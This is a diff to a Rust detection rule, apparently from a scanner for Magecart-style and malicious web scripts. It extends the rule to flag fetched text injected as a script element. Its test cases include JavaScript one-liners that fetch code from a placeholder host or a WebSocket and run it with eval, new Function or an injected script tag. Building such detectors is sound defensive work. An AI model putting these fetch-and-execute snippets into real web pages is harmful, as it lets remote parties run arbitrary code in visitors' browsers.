@@ -3,6 +3,7 @@
 use crate::facts::Atom;
 use crate::signals::near::Near;
 use crate::signals::{Evidence, Held, Signal, one};
+use crate::taint::Sink;
 use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
@@ -10,8 +11,8 @@ pub(super) const SIGNAL: Signal = Signal {
     description: "The script runs text from a server, a socket or another window as code.",
     severity: Severity::Medium,
     classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
-    needs: &[one(&[Atom::RemoteRun]), one(&[Atom::Eval, Atom::FunctionOfText])],
-    within: 20,
+    needs: &[one(&[Atom::RemoteRun]), one(&[Atom::Eval, Atom::FunctionOfText, Atom::ScriptElement])],
+    within: 24,
     only_if: Some(runs_code),
     #[cfg(test)]
     cases: crate::signals::Cases {
@@ -19,6 +20,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "fetch('https://c.example/a').then(r=>r.text()).then(c=>eval(c))",
             "fetch(u).then(r=>r.text()).then(eval)",
             "var s=new WebSocket('wss://c.example/');s.onmessage=function(e){eval(e.data)}",
+            "fetch('https://c.example/a').then(r=>r.text()).then(c=>{const s=document.createElement('script');s.textContent=c;document.head.append(s)})",
             "async function go(){const r=await fetch(u);const t=await r.text();new Function(t)()}",
         ],
         without: &[
@@ -33,6 +35,11 @@ pub(super) const SIGNAL: Signal = Signal {
 /// Whether there is anything but data that is read.
 fn runs_code(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 0);
+    // The text of a script element is nothing but code.
+    let filled = evidence
+        .flows
+        .iter()
+        .any(|flow| flow.sink == Sink::Shown && (held.first..=held.last).contains(&flow.at));
     let mut runs = near.facts(Atom::Eval).chain(near.facts(Atom::FunctionOfText));
-    runs.any(|at| !near.reads_data(at))
+    filled || runs.any(|at| !near.reads_data(at))
 }
